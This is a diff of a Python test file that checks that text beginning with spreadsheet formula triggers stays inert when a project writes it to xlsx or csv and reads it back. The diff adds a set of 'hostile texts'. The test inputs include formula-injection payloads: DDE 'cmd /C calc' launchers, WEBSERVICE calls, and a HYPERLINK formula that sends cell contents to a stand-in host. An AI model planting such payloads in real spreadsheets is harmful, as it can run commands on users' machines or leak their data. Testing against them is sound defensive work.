@@ -1,4 +1,4 @@
-"""Forty ways to begin a formula: none is alive in an xlsx or a csv, and our own reading gives the text again."""
+"""Forty ways to begin a formula, and hostile texts: none is alive in an xlsx or a csv, and we read the text again."""
 
 import csv
 import sys
@@ -9,6 +9,7 @@ import polars as pl
 import pytest
 from python_calamine import CalamineWorkbook
 
+from tests.hostile_texts import hostile_texts
 from xiuhua.bridge.workbook.reading import open_raw
 from xiuhua.papers.text_table import LIVE, ROWS_AT_ONCE, quieted, text_table, write_text_table
 from xiuhua.papers.text_workbook import Page, write_text_workbook
@@ -21,7 +22,7 @@ PREFIXES = [
     "=cmd|' /C calc'!A0;", "+cmd|' /C calc'!A0;", "-2+3+cmd|' /C calc'!A0;", "@SUM(1+1)*cmd|' /C calc'!A0;",
     '=HYPERLINK("http://x.example?"&A1);', "=WEBSERVICE(A1);", '=DDE("cmd";"/C calc";"x");', ";=", ",=", '",=',
 ]  # fmt: skip
-TEXTS = [f"{prefix}1+1" for prefix in PREFIXES]
+TEXTS = [*(f"{prefix}1+1" for prefix in PREFIXES), *hostile_texts()]
 
 
 def as_read(texts: list[str]) -> list[str | None]:
